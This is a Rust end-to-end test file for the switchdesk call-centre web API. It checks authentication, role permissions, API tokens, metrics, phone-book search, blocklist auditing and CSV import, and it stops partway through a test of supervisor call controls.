//! The HTTP API end to end: the real router on a real socket, a SQLite store in a temporary
//! directory, and a plain HTTP client that handles the session cookie by hand.

#[macro_use]
mod common;

use std::sync::Arc;
use std::time::Duration;

use common::{TestDb, TestDbRef};
use reqwest::header::{
    AUTHORIZATION, CONTENT_SECURITY_POLICY, CONTENT_TYPE, COOKIE, ORIGIN, REFERER, RETRY_AFTER,
    SET_COOKIE,
};
use reqwest::{Client, Response, StatusCode};
use serde_json::{json, Value};
use sqlx::{Connection as _, Executor as _};
use switchdesk::config::Config;
use switchdesk::directory::model::{Contact, Organization};
use switchdesk::directory::number::Numbering;
use switchdesk::directory::PhoneBook;
use switchdesk::metrics::{self, Metrics};
use switchdesk::store::Store;
use switchdesk::users::{self, Role};
use switchdesk::web::{self};
use tokio::sync::oneshot;

const MAX_BODY: usize = 4096;

struct App {
    base: String,
    client: Client,
    store: Store,
    metrics: Arc<Metrics>,
    stop: Option<oneshot::Sender<()>>,
    served: tokio::task::JoinHandle<anyhow::Result<()>>,
    _db: Option<TestDb>,
}

impl App {
    /// The service on a SQLite database of its own.
    async fn start() -> App {
        App::start_with(|_| {}).await
    }

    /// Starts with the test's own settings on top of the usual ones.
    async fn start_with(configure: impl FnOnce(&mut Config)) -> App {
        let db = TestDb::sqlite().await;
        let mut app = App::on_with(&db.store, &db.url, configure).await;
        app._db = Some(db);
        app
    }

    /// The service on a scenario's database (see `on_both_backends!`).
    async fn on(store: &Store, url: &str) -> App {
        App::on_with(store, url, |_| {}).await
    }

    async fn on_with(store: &Store, url: &str, configure: impl FnOnce(&mut Config)) -> App {
        let mut config = Config::default();
        config.database.url = switchdesk::config::Secret::new(url.to_owned());
        config.http.max_body_bytes = MAX_BODY;
        configure(&mut config);
        let phonebook = Arc::new(PhoneBook::new(Numbering::new("RU").unwrap()));
        let state = switchdesk::service::state_without_switch(config, store, phonebook)
            .await
            .unwrap();
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let base = format!("http://{}", listener.local_addr().unwrap());
        let (stop, stopped) = oneshot::channel::<()>();
        let metrics = state.metrics.clone();
        let served = tokio::spawn(web::serve(listener, state, async {
            let _ = stopped.await;
        }));
        // As a browser on the dashboard's own page: `Origin` on every request.
        let mut origin = reqwest::header::HeaderMap::new();
        origin.insert(ORIGIN, base.parse().unwrap());
        App {
            client: Client::builder().default_headers(origin).build().unwrap(),
            base,
            store: store.clone(),
            metrics,
            stop: Some(stop),
            served,
            _db: None,
        }
    }

    async fn add_user(&self, name: &str, role: Role) {
        users::add_user(&self.store, name, role, &format!("{name}-password"))
            .await
            .unwrap();
    }

    fn url(&self, path: &str) -> String {
        format!("{}{path}", self.base)
    }

    async fn get(&self, path: &str, credential: Option<&str>) -> Response {
        with(self.client.get(self.url(path)), credential)
            .send()
            .await
            .unwrap()
    }

    async fn post(&self, path: &str, credential: Option<&str>, body: Value) -> Response {
        with(self.client.post(self.url(path)), credential)
            .json(&body)
            .send()
            .await
            .unwrap()
    }

    async fn put(&self, path: &str, credential: Option<&str>, body: Value) -> Response {
        with(self.client.put(self.url(path)), credential)
            .json(&body)
            .send()
            .await
            .unwrap()
    }

    async fn delete(&self, path: &str, credential: Option<&str>) -> Response {
        with(self.client.delete(self.url(path)), credential)
            .send()
            .await
            .unwrap()
    }

    async fn try_login(&self, name: &str, password: &str) -> Response {
        let body = json!({ "name": name, "password": password });
        self.post("/api/login", None, body).await
    }

    /// Signs in and returns the `Cookie` header value for later requests.
    async fn login(&self, name: &str) -> String {
        let response = self.try_login(name, &format!("{name}-password")).await;
        assert_eq!(response.status(), StatusCode::OK);
        let set_cookie = response.headers()[SET_COOKIE].to_str().unwrap().to_string();
        set_cookie.split(';').next().unwrap().to_string()
    }

    async fn stop(mut self) {
        if let Some(stop) = self.stop.take() {
            let _ = stop.send(());
        }
        let served = tokio::time::timeout(Duration::from_secs(5), &mut self.served)
            .await
            .expect("server stops promptly");
        served.unwrap().unwrap();
    }
}

/// `Some("cookie=...")` is sent as a cookie, `Some("sdk_...")` as a bearer token.
fn with(request: reqwest::RequestBuilder, credential: Option<&str>) -> reqwest::RequestBuilder {
    match credential {
        Some(token) if token.starts_with("sdk_") => {
            request.header(AUTHORIZATION, format!("Bearer {token}"))
        }
        Some(cookie) => request.header(COOKIE, cookie),
        None => request,
    }
}

/// Asserts the status and the JSON error shape, returning the body.
async fn expect_error(response: Response, status: StatusCode, code: &str) -> Value {
    assert_eq!(response.status(), status);
    let content_type = response.headers()[CONTENT_TYPE]
        .to_str()
        .unwrap()
        .to_string();
    assert!(
        content_type.starts_with("application/json"),
        "{content_type}"
    );
    let body: Value = response.json().await.unwrap();
    assert_eq!(body["code"], code, "{body}");
    assert!(
        body["error"].as_str().is_some_and(|e| !e.is_empty()),
        "{body}"
    );
    body
}

#[tokio::test]
async fn healthz_is_public_and_reports_a_dead_database() {
    let app = App::start().await;
    let response = app.get("/healthz", None).await;
    assert_eq!(response.status(), StatusCode::OK);
    assert_eq!(
        response.json::<Value>().await.unwrap(),
        json!({ "status": "ok" })
    );

    app.store.close().await;
    let response = app.get("/healthz", None).await;
    assert_eq!(response.status(), StatusCode::SERVICE_UNAVAILABLE);
    let body: Value = response.json().await.unwrap();
    assert_eq!(body["status"], "unavailable");
    app.stop().await;
}

#[tokio::test]
async fn the_dashboard_shell_is_public_with_the_right_content_types() {
    let app = App::start().await;
    for (path, content_type, marker) in [
        ("/", "text/html", "<title>switchdesk</title>"),
        ("/app.js", "text/javascript", "/api/me"),
        ("/lib.js", "text/javascript", "textContent"),
        ("/feed.js", "text/javascript", "/ws?feed="),
        ("/wallboard.js", "text/javascript", "/eavesdrop"),
        ("/agent.js", "text/javascript", "/notes"),
        (
            "/manager.js",
            "text/javascript",
            "/api/reports/profitability",
        ),
        ("/admin.js", "text/javascript", "/api/phonebook/import"),
        ("/status.js", "text/javascript", "/api/status"),
        ("/style.css", "text/css", ":root"),
    ] {
        let response = app.get(path, None).await;
        assert_eq!(response.status(), StatusCode::OK, "{path}");
        let got = response.headers()[CONTENT_TYPE]
            .to_str()
            .unwrap()
            .to_string();
        assert!(got.starts_with(content_type), "{path}: {got}");
        let policy = response.headers()[CONTENT_SECURITY_POLICY]
            .to_str()
            .unwrap();
        assert!(policy.starts_with("default-src 'self'"), "{path}: {policy}");
        assert!(response.text().await.unwrap().contains(marker), "{path}");
    }
    app.stop().await;
}

#[tokio::test]
async fn the_dashboard_sets_text_only_and_inlines_nothing() {
    // The CSP forbids inline code; markup from data would be an injection hole. Keep both out.
    let app = App::start().await;
    let page = app.get("/", None).await.text().await.unwrap();
    for inline in [
        " style=",
        " onclick=",
        " onload=",
        " onsubmit=",
        "javascript:",
    ] {
        assert!(!page.contains(inline), "index.html has {inline:?}");
    }
    assert!(
        !page.contains("<script>"),
        "index.html has an inline script"
    );
    for path in [
        "/app.js",
        "/lib.js",
        "/feed.js",
        "/wallboard.js",
        "/agent.js",
        "/manager.js",
        "/admin.js",
        "/status.js",
    ] {
        let script = app.get(path, None).await.text().await.unwrap();
        for sink in [
            "innerHTML",
            "outerHTML",
            "insertAdjacentHTML",
            "document.write",
            "eval(",
        ] {
            assert!(!script.contains(sink), "{path} uses {sink}");
        }
    }
    app.stop().await;
}

#[tokio::test]
async fn status_needs_a_supervisor_and_shows_esl_state() {
    let app = App::start().await;
    app.add_user("alice", Role::Agent).await;
    app.add_user("sam", Role::Supervisor).await;
    app.metrics
        .set(metrics::ESL_CONNECTED, "connected", &[("node", "fs1")], 1.0);
    for _ in 0..3 {
        app.metrics.inc(
            metrics::ESL_EVENTS_TOTAL,
            "events",
            &[("event", "CHANNEL_PARK")],
            1,
        );
    }
    app.metrics.inc(
        metrics::ESL_EVENTS_TOTAL,
        "events",
        &[("event", "HEARTBEAT")],
        1,
    );

    expect_error(
        app.get("/api/status", None).await,
        StatusCode::UNAUTHORIZED,
        "unauthorized",
    )
    .await;
    let forged = "switchdesk_session=sds_0000";
    expect_error(
        app.get("/api/status", Some(forged)).await,
        StatusCode::UNAUTHORIZED,
        "unauthorized",
    )
    .await;

    // The same figures as /metrics, so the same role: an agent has no use for them.
    let cookie = app.login("alice").await;
    expect_error(
        app.get("/api/status", Some(&cookie)).await,
        StatusCode::FORBIDDEN,
        "forbidden",
    )
    .await;
    let supervisor = app.login("sam").await;
    let response = app.get("/api/status", Some(&supervisor)).await;
    assert_eq!(response.status(), StatusCode::OK);
    let status: Value = response.json().await.unwrap();
    assert_eq!(status["esl"]["connected"], true);
    assert_eq!(status["esl"]["nodes"][0]["node"], "fs1");
    assert_eq!(status["esl"]["nodes"][0]["connected"], true);
    assert_eq!(status["esl"]["events_total"], 4);
    assert_eq!(
        status["events"],
        json!({ "CHANNEL_PARK": 3, "HEARTBEAT": 1 })
    );

    let me: Value = app
        .get("/api/me", Some(&cookie))
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(
        me,
        json!({ "name": "alice", "role": "agent", "credential": "session" })
    );
    app.stop().await;
}

#[tokio::test]
async fn login_sets_a_strict_http_only_cookie_and_logout_ends_it() {
    let app = App::start().await;
    app.add_user("alice", Role::Supervisor).await;
    let response = app.try_login("alice", "alice-password").await;
    assert_eq!(response.status(), StatusCode::OK);
    let set_cookie = response.headers()[SET_COOKIE].to_str().unwrap().to_string();
    assert!(
        set_cookie.starts_with("switchdesk_session=sds_"),
        "{set_cookie}"
    );
    for attribute in ["HttpOnly", "SameSite=Strict", "Path=/", "Max-Age=43200"] {
        assert!(
            set_cookie.contains(attribute),
            "{set_cookie} lacks {attribute}"
        );
    }
    assert_eq!(
        response.json::<Value>().await.unwrap(),
        json!({ "name": "alice", "role": "supervisor" })
    );

    let cookie = set_cookie.split(';').next().unwrap().to_string();
    let response = app.post("/api/logout", Some(&cookie), json!({})).await;
    assert_eq!(response.status(), StatusCode::OK);
    assert!(response.headers()[SET_COOKIE]
        .to_str()
        .unwrap()
        .contains("Max-Age=0"));
    expect_error(
        app.get("/api/me", Some(&cookie)).await,
        StatusCode::UNAUTHORIZED,
        "unauthorized",
    )
    .await;
    app.stop().await;
}

#[tokio::test]
async fn wrong_credentials_get_one_generic_401() {
    let app = App::start().await;
    app.add_user("alice", Role::Agent).await;
    let wrong_password = app.try_login("alice", "nope-nope").await;
    assert!(wrong_password.headers().get(SET_COOKIE).is_none());
    let a = expect_error(wrong_password, StatusCode::UNAUTHORIZED, "unauthorized").await;
    let unknown_user = app.try_login("mallory", "nope-nope").await;
    let b = expect_error(unknown_user, StatusCode::UNAUTHORIZED, "unauthorized").await;
    assert_eq!(a, b, "the answer does not reveal which names exist");
    app.stop().await;
}

#[tokio::test]
async fn only_admins_manage_users() {
    let app = App::start().await;
    app.add_user("alice", Role::Agent).await;
    app.add_user("root", Role::Admin).await;
    let agent = app.login("alice").await;
    let admin = app.login("root").await;

    expect_error(
        app.get("/api/users", Some(&agent)).await,
        StatusCode::FORBIDDEN,
        "forbidden",
    )
    .await;
    let new_user = json!({ "name": "bob", "role": "supervisor", "password": "bob-password" });
    let response = app.post("/api/users", Some(&agent), new_user.clone()).await;
    expect_error(response, StatusCode::FORBIDDEN, "forbidden").await;

    let response = app.post("/api/users", Some(&admin), new_user.clone()).await;
    assert_eq!(response.status(), StatusCode::CREATED);
    let bob: Value = response.json().await.unwrap();
    assert_eq!(
        (bob["name"].as_str(), bob["role"].as_str()),
        (Some("bob"), Some("supervisor"))
    );
    assert!(bob.get("password_hash").is_none());

    let response = app.post("/api/users", Some(&admin), new_user).await;
    expect_error(response, StatusCode::CONFLICT, "conflict").await;
    let weak = json!({ "name": "carol", "role": "agent", "password": "short" });
    expect_error(
        app.post("/api/users", Some(&admin), weak).await,
        StatusCode::BAD_REQUEST,
        "bad_request",
    )
    .await;

    let response = app.get("/api/users", Some(&admin)).await;
    assert_eq!(response.status(), StatusCode::OK);
    let listed: Vec<Value> = response.json().await.unwrap();
    let names: Vec<&str> = listed.iter().filter_map(|u| u["name"].as_str()).collect();
    assert_eq!(names, ["alice", "bob", "root"]);

    app.login("bob").await;
    app.stop().await;
}

#[tokio::test]
async fn api_tokens_authenticate_until_revoked() {
    let app = App::start().await;
    app.add_user("root", Role::Admin).await;
    let admin = app.login("root").await;

    let response = app
        .post(
            "/api/tokens",
            Some(&admin),
            json!({ "name": "wallboard", "role": "agent" }),
        )
        .await;
    assert_eq!(response.status(), StatusCode::CREATED);
    let created: Value = response.json().await.unwrap();
    let token = created["token"].as_str().unwrap().to_string();
    assert!(token.starts_with("sdk_"), "{created}");

    assert_eq!(
        app.get("/api/contacts", Some(&token)).await.status(),
        StatusCode::OK
    );
    let me: Value = app.get("/api/me", Some(&token)).await.json().await.unwrap();
    assert_eq!(
        me,
        json!({ "name": "wallboard", "role": "agent", "credential": "token" })
    );
    expect_error(
        app.get("/api/tokens", Some(&token)).await,
        StatusCode::FORBIDDEN,
        "forbidden",
    )
    .await;
    // The same token in X-Switchdesk-Token, the header the outbound blocklist's dialplan sends
    // (mod_curl cannot send a header value with a space); a wrong one is refused.
    let by_header = |value: String| {
        app.client
            .get(app.url("/api/me"))
            .header("X-Switchdesk-Token", value)
            .send()
    };
    let me: Value = by_header(token.clone())
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(me["name"], "wallboard");
    assert_eq!(me["credential"], "token");
    expect_error(
        by_header("sdk_wrong".into()).await.unwrap(),
        StatusCode::UNAUTHORIZED,
        "unauthorized",
    )
    .await;

    let listed: Vec<Value> = app
        .get("/api/tokens", Some(&admin))
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(listed.len(), 1);
    assert_eq!(listed[0]["name"], "wallboard");
    assert!(listed[0].get("token").is_none() && listed[0].get("token_hash").is_none());

    let revoked = app.delete("/api/tokens/wallboard", Some(&admin)).await;
    assert_eq!(revoked.status(), StatusCode::NO_CONTENT);
    expect_error(
        app.get("/api/status", Some(&token)).await,
        StatusCode::UNAUTHORIZED,
        "unauthorized",
    )
    .await;
    let missing = app.delete("/api/tokens/nothing", Some(&admin)).await;
    expect_error(missing, StatusCode::NOT_FOUND, "not_found").await;

    let garbage = app
        .client
        .get(app.url("/api/status"))
        .header(AUTHORIZATION, "Basic cm9vdDpyb290")
        .send()
        .await
        .unwrap();
    expect_error(garbage, StatusCode::UNAUTHORIZED, "unauthorized").await;
    app.stop().await;
}

#[tokio::test]
async fn bad_bodies_get_json_errors() {
    let app = App::start().await;
    app.add_user("root", Role::Admin).await;
    let admin = app.login("root").await;

    let huge = json!({ "name": "x".repeat(MAX_BODY * 2), "password": "y" });
    expect_error(
        app.post("/api/login", None, huge).await,
        StatusCode::PAYLOAD_TOO_LARGE,
        "payload_too_large",
    )
    .await;

    let malformed = app
        .client
        .post(app.url("/api/login"))
        .header(CONTENT_TYPE, "application/json")
        .body("{\"name\": \"root\", ")
        .send()
        .await
        .unwrap();
    expect_error(malformed, StatusCode::BAD_REQUEST, "bad_request").await;

    let wrong_shape = app
        .post(
            "/api/users",
            Some(&admin),
            json!({ "name": "bob", "role": "emperor", "password": "long enough" }),
        )
        .await;
    expect_error(wrong_shape, StatusCode::BAD_REQUEST, "bad_request").await;

    let not_json = app
        .client
        .post(app.url("/api/login"))
        .body("name=root")
        .send()
        .await
        .unwrap();
    expect_error(not_json, StatusCode::UNSUPPORTED_MEDIA_TYPE, "bad_request").await;

    expect_error(
        app.get("/api/nothing-here", Some(&admin)).await,
        StatusCode::NOT_FOUND,
        "not_found",
    )
    .await;
    let wrong_method = app.client.put(app.url("/api/status")).send().await.unwrap();
    expect_error(wrong_method, StatusCode::METHOD_NOT_ALLOWED, "bad_request").await;
    app.stop().await;
}

#[tokio::test]
async fn metrics_need_a_supervisor_and_count_requests() {
    let app = App::start().await;
    app.add_user("alice", Role::Agent).await;
    app.add_user("sam", Role::Supervisor).await;
    app.metrics.inc(
        metrics::ESL_EVENTS_TOTAL,
        "ESL events",
        &[("event", "CHANNEL_PARK")],
        7,
    );
    let agent = app.login("alice").await;
    let supervisor = app.login("sam").await;
    let scraper = users::add_api_token(&app.store, "prometheus", Role::Supervisor)
        .await
        .unwrap();
    let agent_token = users::add_api_token(&app.store, "dialplan", Role::Agent)
        .await
        .unwrap();

    expect_error(
        app.get("/metrics", None).await,
        StatusCode::UNAUTHORIZED,
        "unauthorized",
    )
    .await;
    // A token is no way around the role: /metrics and /api/status need a supervisor alike.
    for (credential, path) in [
        (&agent, "/metrics"),
        (&agent_token, "/metrics"),
        (&agent_token, "/api/status"),
    ] {
        expect_error(
            app.get(path, Some(credential)).await,
            StatusCode::FORBIDDEN,
            "forbidden",
        )
        .await;
    }

    for credential in [&supervisor, &scraper] {
        let response = app.get("/metrics", Some(credential)).await;
        assert_eq!(response.status(), StatusCode::OK);
        let content_type = response.headers()[CONTENT_TYPE]
            .to_str()
            .unwrap()
            .to_string();
        assert!(
            content_type.starts_with("text/plain; version=0.0.4"),
            "{content_type}"
        );
        let text = response.text().await.unwrap();
        assert!(
            text.contains("# TYPE switchdesk_esl_events_total counter\n"),
            "{text}"
        );
        assert!(
            text.contains("switchdesk_esl_events_total{event=\"CHANNEL_PARK\"} 7\n"),
            "{text}"
        );
        assert!(
            text.contains("# TYPE switchdesk_http_requests_total counter\n"),
            "{text}"
        );
        assert!(
            text.contains("switchdesk_http_requests_total{status=\"401\"} 1\n"),
            "{text}"
        );
        assert!(
            text.contains("switchdesk_http_requests_total{status=\"403\"} 3\n"),
            "{text}"
        );
    }
    // Two sign-ins and two scrapes answered 200; each scrape renders before it is counted.
    assert_eq!(
        app.metrics
            .get(metrics::HTTP_REQUESTS_TOTAL, &[("status", "200")]),
        Some(4.0)
    );
    app.stop().await;
}

#[tokio::test]
async fn the_phone_book_is_edited_and_searched_over_the_api() {
    let app = App::start().await;
    app.add_user("ann", Role::Agent).await;
    app.add_user("sam", Role::Supervisor).await;
    let ann = app.login("ann").await;
    let sam = app.login("sam").await;

    assert_eq!(
        app.get("/api/contacts/search?q=x", None).await.status(),
        StatusCode::UNAUTHORIZED
    );
    // A number range and the VIP flag route calls: a supervisor's to set.
    let acme = json!({"name": "Acme Ltd", "numbers": [{"number": "8 495 777", "kind": "range"}], "vip": true});
    let body = expect_error(
        app.post("/api/organizations", Some(&ann), acme.clone())
            .await,
        StatusCode::FORBIDDEN,
        "forbidden",
    )
    .await;
    assert!(body["error"].as_str().unwrap().contains("vip"), "{body}");
    let org = app.post("/api/organizations", Some(&sam), acme).await;
    assert_eq!(org.status(), StatusCode::CREATED);
    let org: Value = org.json().await.unwrap();
    assert_eq!(org["numbers"][0]["number"], "+7495777");
    let org_id = org["id"].as_i64().unwrap();

    let created = app
        .post(
            "/api/contacts",
            Some(&ann),
            json!({
                "first_name": "Алексей", "last_name": "Ревенко", "organization_id": org_id,
                "numbers": [{"number": "8 (916) 123-45-67", "kind": "mobile"}]
            }),
        )
        .await;
    assert_eq!(created.status(), StatusCode::CREATED);
    let contact: Value = created.json().await.unwrap();
    assert_eq!(contact["numbers"][0]["number"], "+79161234567");
    let id = contact["id"].as_i64().unwrap();

    // A number that is no number is refused with the reason; nothing is stored.
    let bad = app
        .post(
            "/api/contacts",
            Some(&ann),
            json!({"first_name": "X", "numbers": [{"number": "call me maybe"}]}),
        )
        .await;
    let body = expect_error(bad, StatusCode::BAD_REQUEST, "bad_request").await;
    assert!(body["error"].as_str().unwrap().contains("call me maybe"));

    // Search: transliterated, and by a fragment of the number.
    let hits: Value = app
        .get("/api/contacts/search?q=aleksei%20revenko", Some(&ann))
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(hits[0]["type"], "contact");
    assert_eq!(hits[0]["id"], id);
    assert_eq!(hits[0]["organization"]["name"], "Acme Ltd");
    assert!(hits[0]["score"].as_f64().unwrap() > 0.5);
    let hits: Value = app
        .get("/api/contacts/search?q=123-45", Some(&ann))
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(hits[0]["id"], id);

    // The contact card carries its organization and numbers as people read them.
    let card: Value = app
        .get(&format!("/api/contacts/{id}"), Some(&ann))
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(card["organization"]["id"], org_id);
    assert_eq!(card["numbers_shown"][0], "+7 916 123-45-67");

    // An edit is searchable at once; agents may not delete, supervisors may.
    let edited = app
        .put(
            &format!("/api/contacts/{id}"),
            Some(&ann),
            json!({"first_name": "Ольга", "last_name": "Ревенко"}),
        )
        .await;
    assert_eq!(edited.status(), StatusCode::OK);
    let hits: Value = app
        .get("/api/contacts/search?q=olga", Some(&ann))
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(hits[0]["id"], id);
    expect_error(
        app.delete(&format!("/api/contacts/{id}"), Some(&ann)).await,
        StatusCode::FORBIDDEN,
        "forbidden",
    )
    .await;
    assert_eq!(
        app.delete(&format!("/api/contacts/{id}"), Some(&sam))
            .await
            .status(),
        StatusCode::NO_CONTENT
    );
    expect_error(
        app.get(&format!("/api/contacts/{id}"), Some(&ann)).await,
        StatusCode::NOT_FOUND,
        "not_found",
    )
    .await;
    app.stop().await;
}

#[tokio::test]
async fn the_blocklist_is_managed_by_supervisors_and_checked_by_anyone_signed_in() {
    let app = App::start().await;
    app.add_user("ann", Role::Agent).await;
    app.add_user("sam", Role::Supervisor).await;
    let ann = app.login("ann").await;
    let sam = app.login("sam").await;

    let entry = json!({
        "match": {"type": "prefix", "value": "+7 900"},
        "direction": "outbound",
        "treatment": {"type": "busy"},
        "reason": "premium rate"
    });
    expect_error(
        app.post("/api/blocklist", Some(&ann), entry.clone()).await,
        StatusCode::FORBIDDEN,
        "forbidden",
    )
    .await;
    let created = app.post("/api/blocklist", Some(&sam), entry).await;
    assert_eq!(created.status(), StatusCode::CREATED);
    let created: Value = created.json().await.unwrap();
    assert_eq!(created["match"]["value"], "+7900");
    assert_eq!(created["added_by"], "sam");

    let check = |number: &'static str, direction: &'static str| {
        let ann = ann.clone();
        let app = &app;
        async move {
            let response = app
                .get(
                    &format!("/api/blocklist/check?number={number}&direction={direction}"),
                    Some(&ann),
                )
                .await;
            assert_eq!(response.status(), StatusCode::OK);
            response.json::<Value>().await.unwrap()
        }
    };
    let outbound = check("89001234567", "outbound").await;
    assert_eq!(outbound["blocked"], true);
    assert_eq!(outbound["number"], "+79001234567");
    assert_eq!(outbound["reason"], "premium rate");
    assert_eq!(check("89001234567", "inbound").await["blocked"], false);
    // The dialplan sends a leading `+` as %2B (a bare `+` in a query is a space).
    assert_eq!(check("%2B79001234567", "outbound").await["blocked"], true);
    assert_eq!(check("84951234567", "outbound").await["blocked"], false);
    expect_error(
        app.get(
            "/api/blocklist/check?number=1&direction=sideways",
            Some(&ann),
        )
        .await,
        StatusCode::BAD_REQUEST,
        "bad_request",
    )
    .await;

    // A cause FreeSWITCH does not know is refused.
    let bad = json!({
        "match": {"type": "number", "value": "+74951234567"},
        "direction": "inbound",
        "treatment": {"type": "reject", "cause": "GO_AWAY"}
    });
    expect_error(
        app.post("/api/blocklist", Some(&sam), bad).await,
        StatusCode::BAD_REQUEST,
        "bad_request",
    )
    .await;

    // Blocking a caller nobody has seen is a clear 404.
    expect_error(
        app.post(
            "/api/blocklist/block-caller",
            Some(&sam),
            json!({"call": "no-such-call"}),
        )
        .await,
        StatusCode::NOT_FOUND,
        "not_found",
    )
    .await;

    let id = created["id"].as_i64().unwrap();
    assert_eq!(
        app.delete(&format!("/api/blocklist/{id}"), Some(&sam))
            .await
            .status(),
        StatusCode::NO_CONTENT
    );
    assert_eq!(check("89001234567", "outbound").await["blocked"], false);
    app.stop().await;
}

/// On a real FreeSWITCH the outbound blocklist's dialplan refused calls after a "blocked"
/// answer, yet the entry kept `hits: 0` and the audit stayed empty: a refusal decided by the
/// dialplan must be counted and audited like one switchdesk makes itself.
#[tokio::test]
async fn a_blocked_answer_to_the_dialplan_is_counted_and_audited() {
    let app = App::start().await;
    app.add_user("sam", Role::Supervisor).await;
    app.add_user("root", Role::Admin).await;
    let sam = app.login("sam").await;
    let root = app.login("root").await;
    let created: Value = app
        .post(
            "/api/tokens",
            Some(&root),
            json!({ "name": "freeswitch-dialplan", "role": "agent" }),
        )
        .await
        .json()
        .await
        .unwrap();
    let token = created["token"].as_str().unwrap().to_string();
    let created = app
        .post(
            "/api/blocklist",
            Some(&sam),
            json!({
                "match": {"type": "number", "value": "+79991234567"},
                "direction": "outbound",
                "treatment": {"type": "reject", "cause": "CALL_REJECTED"},
                "reason": "toll fraud"
            }),
        )
        .await;
    assert_eq!(created.status(), StatusCode::CREATED);
    let id = created.json::<Value>().await.unwrap()["id"]
        .as_i64()
        .unwrap();

    let uuid = "6b86e3a6-1b4f-4a51-9a3c-2f0c9b6f3e1d";
    let ask = |query: String| {
        let app = &app;
        let token = token.clone();
        async move {
            let response = app
                .client
                .get(app.url(&format!("/api/blocklist/check?{query}")))
                .header("X-Switchdesk-Token", token)
                .send()
                .await
                .unwrap();
            assert_eq!(response.status(), StatusCode::OK);
            response.json::<Value>().await.unwrap()
        }
    };
    // As the shipped dialplan asks: %2B for the `+`, the channel's UUID.
    let refused = ask(format!(
        "direction=outbound&number=%2B79991234567&call={uuid}"
    ))
    .await;
    assert_eq!(refused["blocked"], true);
    // An allowed number and a junk call id: the first is no hit, the second keeps no call.
    assert_eq!(
        ask("direction=outbound&number=%2B79990000000".into()).await["blocked"],
        false
    );
    assert_eq!(
        ask("direction=outbound&number=%2B79991234567&call=x;y".into()).await["blocked"],
        true
    );

    let entries: Value = app
        .get("/api/blocklist", Some(&sam))
        .await
        .json()
        .await
        .unwrap();
    let entry = entries
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["id"] == id)
        .unwrap();
    assert_eq!(entry["hits"], 2);
    assert!(entry["last_hit_at"].is_i64());
    let audit: Value = app
        .get("/api/blocklist/audit", Some(&sam))
        .await
        .json()
        .await
        .unwrap();
    let audit = audit.as_array().unwrap();
    assert_eq!(audit.len(), 2);
    assert!(audit.iter().all(|a| a["entry_id"] == id
        && a["direction"] == "outbound"
        && a["number"] == "+79991234567"
        && a["action"] == "not_dialled"));
    let mut calls: Vec<&str> = audit
        .iter()
        .map(|a| a["call_uuid"].as_str().unwrap())
        .collect();
    calls.sort_unstable();
    assert_eq!(calls, ["", uuid]);
    app.stop().await;
}

#[tokio::test]
async fn admins_import_a_phone_book_and_supervisors_export_it() {
    let app = App::start().await;
    app.add_user("ada", Role::Admin).await;
    app.add_user("sam", Role::Supervisor).await;
    let ada = app.login("ada").await;
    let sam = app.login("sam").await;
    let csv = "external_id,first_name,last_name,organization,phones\n\
               c-1,Ivan,Petrov,Acme Ltd,8 (916) 555-12-34\n\
               c-2,,,Acme Ltd,+7 916 555 00 00\n\
               c-3,Olga,Smirnova,,not a number\n";
    let import = |who: String| {
        let app = &app;
        async move {
            with(
                app.client
                    .post(app.url("/api/phonebook/import?kind=contacts")),
                Some(&who),
            )
            .header(CONTENT_TYPE, "text/csv")
            .body(csv)
            .send()
            .await
            .unwrap()
        }
    };
    expect_error(
        import(sam.clone()).await,
        StatusCode::FORBIDDEN,
        "forbidden",
    )
    .await;
    let response = import(ada.clone()).await;
    assert_eq!(response.status(), StatusCode::OK);
    let report: Value = response.json().await.unwrap();
    assert_eq!(report["saved"], 1);
    assert_eq!(report["failed"], 2);
    let lines: Vec<i64> = report["failures"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["line"].as_i64().unwrap())
        .collect();
    assert_eq!(lines, vec![3, 4]);

    // The imported contact is in the live phone book at once.
    let hits: Value = app
        .get("/api/contacts/search?q=petrov", Some(&sam))
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(hits[0]["name"], "Ivan Petrov");
    assert_eq!(hits[0]["organization"]["name"], "Acme Ltd");

    let exported = app
        .get("/api/phonebook/export?kind=contacts", Some(&sam))
        .await;
    assert_eq!(exported.status(), StatusCode::OK);
    assert!(exported.headers()[CONTENT_TYPE]
        .to_str()
        .unwrap()
        .starts_with("text/csv"));
    let text = exported.text().await.unwrap();
    assert!(text.lines().next().unwrap().contains("first_name"));
    assert!(text.contains("+79165551234"), "{text}");
    assert_eq!(text.lines().count(), 2);
    app.stop().await;
}

#[tokio::test]
async fn supervisors_move_callers_and_listen_in_agents_may_not_and_bad_input_is_refused() {
    let app = App::start().await;
    app.add_user("root", Role::Admin).await;
    app.add_user("ann", Role::Agent).await;
    app.add_user("sam", Role::Supervisor).await;
    app.add_user("sue", Role::Supervisor).await;
    let admin = app.login("root").await;
    let ann = app.login("ann").await;
    let sam = app.login("sam").await;
    let sue = app.login("sue").await;
    for queue in ["support", "sales"] {
        let saved = app
            .put(&format!("/api/queues/{queue}"), Some(&admin), json!({}))
            .await;
        assert_eq!(saved.status(), StatusCode::NO_CONTENT, "{queue}");
    }
    // ann answers calls; sam, a supervisor, has a phone of his own as an ACD agent.
    for (name, endpoint) in [("ann", "user/1001@default"), ("sam", "user/1009@default")] {
        let saved = app
            .put(
                &format!("/api/agents/{name}"),
                Some(&admin),
                json!({ "name": name, "endpoint": endpoint, "queues": [{"queue": "support"}] }),
            )
            .await;
        assert_eq!(saved.status(), StatusCode::NO_CONTENT, "{name}");
    }

    // Agents may not do any of it.
    let sales = json!({ "queue": "sales" });
    let listen = json!({ "mode": "listen", "endpoint": "user/1001@default" });
    for (path, body) in [
        ("/api/calls/c1/move", sales.clone()),
        ("/api/calls/c1/front", json!({})),
        ("/api/agents/ann/eavesdrop", listen.clone()),
    ] {
        expect_error(
            app.post(path, Some(&ann), body).await,
            StatusCode::FORBIDDEN,
            "forbidden",
        )
        .await;
    }

    // No such caller waiting, no such queue.
    let body = expect_error(
        app.post("/api/calls/c1/move", Some(&sam), sales.clone())
            .await,
        StatusCode::NOT_FOUND,
        "not_found",
    )
    .await;
